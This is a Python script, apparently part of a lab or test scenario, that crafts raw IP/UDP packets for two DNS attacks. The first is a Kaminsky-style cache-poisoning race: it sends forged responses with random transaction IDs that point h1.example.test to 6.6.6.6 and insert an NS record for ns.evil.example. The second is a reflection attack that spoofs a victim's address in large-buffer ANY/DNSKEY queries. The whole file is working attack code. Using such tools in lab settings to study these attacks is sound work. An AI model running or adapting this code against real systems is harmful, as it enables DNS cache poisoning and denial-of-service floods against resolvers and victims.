#!/usr/bin/env python3
"""forge.py SRC DST COUNT SECONDS: sends COUNT forged DNS responses from SRC:53 to DST at
random ports with random TXIDs over SECONDS (a Kaminsky-style race: "h1.example.test A"
answered with 6.6.6.6, an out-of-bailiwick NS in the authority).
forge.py --query VICTIM COUNT SECONDS QNAME QTYPE SERVER...: sends COUNT queries "from"
VICTIM (spoofed, port 4444) with a 4096-byte EDNS buffer, round robin to the SERVERs (a
reflection attack). Raw socket (root), only used inside the scenario's network namespace."""
import random
import socket
import struct
import sys
import time


def name(n):
    return b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\0"


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def udp_ip(src, dst, sport, dport, dns):
    udp_len = 8 + len(dns)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_len)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + dns
    csum = checksum(pseudo + udp) or 0xFFFF
    udp = struct.pack("!HHHH", sport, dport, udp_len, csum) + dns
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.randrange(65536), 0, 64, 17,
                     0, socket.inet_aton(src), socket.inet_aton(dst))
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + udp


def query(txid, qname, qtype):
    opt = b"\0" + struct.pack("!HHIH", 41, 4096, 0, 0)
    return struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 1) + name(qname) + \
        struct.pack("!HH", qtype, 1) + opt


def packet(src, dst, sport, dport, txid):
    q = name("h1.example.test") + struct.pack("!HH", 1, 1)
    ans = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 86400, 4) + socket.inet_aton("6.6.6.6")
    ns = name("example.test") + struct.pack("!HHIH", 2, 1, 86400, len(name("ns.evil.example")))
    ns += name("ns.evil.example")
    dns = struct.pack("!HHHHHH", txid, 0x8580, 1, 1, 1, 0) + q + ans + ns
    return udp_ip(src, dst, sport, dport, dns)


TYPES = {"ANY": 255, "TXT": 16, "DNSKEY": 48, "A": 1}


def main():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    if sys.argv[1] == "--query":
        victim, count, secs, qname, qtype = sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), \
            sys.argv[5], TYPES[sys.argv[6]]
        servers = sys.argv[7:]
        for i in range(count):
            dst = servers[i % len(servers)]
            s.sendto(udp_ip(victim, dst, 4444, 53, query(random.randrange(65536), qname, qtype)),
                     (dst, 0))
            time.sleep(secs / count)
        print("sent", count)
        return
    src, dst, count, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    gap = secs / count
    for _ in range(count):
        s.sendto(packet(src, dst, 53, random.randrange(1024, 65536), random.randrange(65536)),
                 (dst, 0))
        time.sleep(gap)
    print("sent", count)


main()
